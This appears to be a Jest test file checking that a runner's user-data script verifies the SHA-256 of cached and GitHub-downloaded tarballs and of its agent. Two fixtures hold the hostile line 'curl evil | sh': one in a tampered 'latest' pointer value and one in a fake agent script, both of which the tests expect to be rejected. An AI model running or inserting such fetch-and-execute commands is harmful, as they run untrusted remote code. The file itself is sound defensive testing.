/**
 * User data's fetches from the artifact bucket (modules/artifacts): each branch run against the
 * simulator's S3 facade through the aws shim, as the agent tests run the agent: the runner from the
 * cache or GitHub, the "latest" pointer, and the agent as shipped or not at all.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { S3Facade } from '../../src/sim/facades/artifacts/s3-facade.js';
import {
  BUCKET,
  agent,
  agentSha256,
  between,
  newerTarball,
  renderUserData,
  repo,
  sha256,
  tarball,
  unit,
  unitSha256,
  type RenderedUserData,
} from './user-data-render.js';

let u: RenderedUserData;
let workDir = '';
let env: NodeJS.ProcessEnv = {};
let rendered = '';
let latest = '';
let noCache = '';

beforeAll(() => {
  u = renderUserData();
  ({ workDir, env, rendered, latest, noCache } = u);
});

afterAll(() => u?.close());

const BIN = join(repo, 'lambdas', 'src', 'bench', 'agent');

interface Fetched {
  readonly status: number;
  readonly output: string;
  readonly githubDownloads: string[];
  readonly unpacked: string | undefined;
  readonly agentInstalled: boolean;
}

/**
 * Runs the user data from the fetch function to the agent's unit, in a scratch directory: `aws`
 * is the shim (S3 facade), `curl` copies from a stand-in for GitHub's releases, `sleep` returns.
 */
async function fetchSection(
  text: string,
  bucket: Record<string, Buffer | string>,
  github: Record<string, Buffer>,
): Promise<Fetched> {
  const dir = mkdtempSync(join(workDir, 'fetch-'));
  const shims = join(dir, 'shims');
  const releases = join(dir, 'github');
  mkdirSync(shims);
  mkdirSync(releases);
  writeFileSync(join(shims, 'aws'), `#!/bin/sh\nexec "${process.execPath}" "${join(BIN, 'aws-shim.mjs')}" "$@"\n`, {
    mode: 0o755,
  });
  writeFileSync(join(shims, 'sleep'), '#!/bin/sh\n', { mode: 0o755 });
  // curl -fsSL --retry 5 -o FILE URL: the release file by name, or curl's exit 22 (HTTP 404).
  writeFileSync(
    join(shims, 'curl'),
    `#!/bin/bash\nout=; for ((i = 1; i <= $#; i++)); do [ "\${!i}" = -o ] && { j=$((i + 1)); out=\${!j}; }; done\nurl=\${!#}\necho "$url" >>"${releases}/downloads.log"\ncp "${releases}/$(basename "$url")" "$out" 2>/dev/null || exit 22\n`,
    { mode: 0o755 },
  );
  for (const [name, bytes] of Object.entries(github)) writeFileSync(join(releases, name), bytes);
  const s3 = new S3Facade();
  const url = await s3.start();
  for (const [key, body] of Object.entries(bucket)) s3.seed(BUCKET, key, body);
  const section = text
    .slice(text.indexOf('fetch_verified() {'), text.indexOf('\n# Agent settings'))
    .replace('runner_dir=/opt/actions-runner', `runner_dir=${join(dir, 'runner')}`)
    .replace(/^chown -R .*$/m, ':')
    .concat(
      between(
        text,
        '# The agent and its unit, as this module version ships them (agent/), checked against their SHA-256.\n',
        '\n\n',
      ),
    )
    .replaceAll('/usr/local/bin/ghr-agent', join(dir, 'ghr-agent'))
    .replaceAll('/etc/systemd/system/ghr-agent.service', join(dir, 'ghr-agent.service'));
  try {
    const run = await new Promise<{ status: number; output: string }>((resolve) => {
      const child = spawn('bash', ['-euo', 'pipefail', '-c', section], {
        cwd: dir,
        env: { ...env, PATH: `${shims}:${env.PATH ?? ''}`, GHR_TEST_S3_URL: url },
      });
      let output = '';
      child.stdout.on('data', (d: Buffer) => (output += d.toString()));
      child.stderr.on('data', (d: Buffer) => (output += d.toString()));
      child.on('close', (code) => resolve({ status: code ?? -1, output }));
    });
    const log = join(releases, 'downloads.log');
    const marker = join(dir, 'runner', 'bin', 'installdependencies.sh');
    return {
      ...run,
      githubDownloads: existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : [],
      unpacked: existsSync(marker) ? readFileSync(marker, 'utf8').split('\n')[1] : undefined,
      agentInstalled:
        existsSync(join(dir, 'ghr-agent')) && readFileSync(join(dir, 'ghr-agent')).equals(readFileSync(agent)),
    };
  } finally {
    await s3.close();
  }
}

const agentObjects = () => ({
  [`agent/${agentSha256}/ghr-agent.sh`]: readFileSync(agent),
  [`agent/${unitSha256}/ghr-agent.service`]: readFileSync(unit),
});
const cached = (version: string, bytes: Buffer) => ({
  [`runners/${version}/actions-runner-linux-x64-${version}.tar.gz`]: bytes,
});
const released = (version: string, bytes: Buffer) => ({ [`actions-runner-linux-x64-${version}.tar.gz`]: bytes });

test('pinned release in the cache: unpacked from the bucket, nothing from GitHub; the agent installed as shipped', async () => {
  const run = await fetchSection(rendered, { ...agentObjects(), ...cached('2.329.0', tarball) }, {});
  expect([run.status, run.unpacked, run.githubDownloads, run.agentInstalled]).toEqual([0, '# 2.329.0', [], true]);
  expect(run.output).toContain('actions/runner 2.329.0 (x64) from the cache');
});

test("a cached tarball that does not match the pin is not unpacked: GitHub's, which matches, is", async () => {
  const run = await fetchSection(
    rendered,
    { ...agentObjects(), ...cached('2.329.0', newerTarball) },
    released('2.329.0', tarball),
  );
  expect([run.status, run.unpacked, run.githubDownloads.length]).toEqual([0, '# 2.329.0', 1]);
  expect(run.output).toContain('from the GitHub');
});

test('nothing cached and a tampered download from GitHub: user data stops before unpacking', async () => {
  const run = await fetchSection(rendered, agentObjects(), released('2.329.0', newerTarball));
  expect([run.status === 0, run.unpacked, run.agentInstalled]).toEqual([false, undefined, false]);
});

test("latest: the cache's pointer names the release and its SHA-256; the tarball comes from the bucket", async () => {
  const bucket = {
    ...agentObjects(),
    ...cached('2.330.0', newerTarball),
    'runners/latest/linux-x64': `2.330.0 ${sha256(newerTarball)}\n`,
  };
  const run = await fetchSection(latest, bucket, {});
  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([0, '# 2.330.0', []]);
  expect(run.output).toContain('actions/runner 2.330.0 (x64) from the cache');
});

test.each([
  ['no pointer yet', undefined],
  ['a pointer that is not `<version> <sha256>`', '2.330.0; curl evil | sh\n'],
])('latest with %s: the pinned release, from GitHub when the bucket lacks it', async (_name, pointer) => {
  const bucket = { ...agentObjects(), ...(pointer === undefined ? {} : { 'runners/latest/linux-x64': pointer }) };
  const run = await fetchSection(latest, bucket, released('2.329.0', tarball));
  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([
    0,
    '# 2.329.0',
    ['https://github.com/actions/runner/releases/download/v2.329.0/actions-runner-linux-x64-2.329.0.tar.gz'],
  ]);
});

test('an agent in the bucket that is not the one this module ships is never installed: user data stops', async () => {
  const bucket = {
    ...agentObjects(),
    [`agent/${agentSha256}/ghr-agent.sh`]: '#!/bin/bash\ncurl evil | sh\n',
    ...cached('2.329.0', tarball),
  };
  const run = await fetchSection(rendered, bucket, {});
  expect([run.status === 0, run.agentInstalled]).toEqual([false, false]);
});

test("without the cache the bucket's tarballs are never read: GitHub's release is", async () => {
  const run = await fetchSection(
    noCache,
    { ...agentObjects(), ...cached('2.329.0', tarball) },
    released('2.329.0', tarball),
  );
  expect([run.status, run.githubDownloads.length, run.agentInstalled]).toEqual([0, 1, true]);
});
